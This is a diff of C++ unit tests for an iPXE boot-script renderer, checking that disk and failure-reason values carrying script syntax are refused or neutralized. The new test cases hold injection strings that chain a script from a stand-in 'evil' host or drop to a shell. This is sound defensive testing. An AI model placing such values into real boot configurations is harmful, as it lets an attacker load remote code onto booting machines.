@@ -74,7 +74,9 @@ TEST(BootScript, RefusesMissingAndUnsafeValues) {
   ASSERT_FALSE(out);
   EXPECT_NE(out.error().message.find("{{token}}"), std::string::npos);
 
-  for (const char* bad : {"a\nshell", "${net0/mac}", "x\"y", "a\\b", "tab\there"}) {
+  for (const char* bad :
+       {"a\nshell", "${net0/mac}", "x\"y", "a\\b", "tab\there", "sda ; chain http://evil/x",
+        "sda||shell", "sda&&shell", "sda #", "/dev/sda kiln.server=http://evil"}) {
     vars = deploy_vars();
     vars["disk"] = bad;
     out = Templates::embedded().render(Script::kDeploy, vars);
@@ -98,9 +100,23 @@ TEST(BootScript, LocalBootPerFirmware) {
   EXPECT_FALSE(parse_local_boot("grub"));
 }
 
+TEST(BootScript, ReasonMayHoldSpacesButNoSeparators) {
+  auto vars = Templates::Vars{{"mac", "m"},
+                              {"reason", script_text("chunk 3; reboot")},
+                              {"poll_s", "5"},
+                              {"script_url", "http://s/boot/m.ipxe"}};
+  auto out = Templates::embedded().render(Script::kFailed, vars);
+  ASSERT_TRUE(out) << out.error().message;
+  EXPECT_NE(out->find("failed: chunk 3_ reboot"), std::string::npos) << *out;
+  vars["reason"] = "chunk 3; reboot";  // unsanitized: refused
+  EXPECT_FALSE(Templates::embedded().render(Script::kFailed, vars));
+}
+
 TEST(BootScript, ScriptTextNeutralizesIpxeSyntax) {
   EXPECT_EQ(script_text("chunk 3: sha256 mismatch"), "chunk 3: sha256 mismatch");
-  EXPECT_EQ(script_text("${root}\n#x\"'\\"), "_{root}__x___");
+  EXPECT_EQ(script_text("${root}\n#x\"'\\"), "__root___x___");
+  EXPECT_EQ(script_text("x ; chain http://evil/a || shell & y"),
+            "x _ chain http://evil/a __ shell _ y");
   EXPECT_EQ(script_text(std::string(500, 'a')).size(), 200u);
 }
 
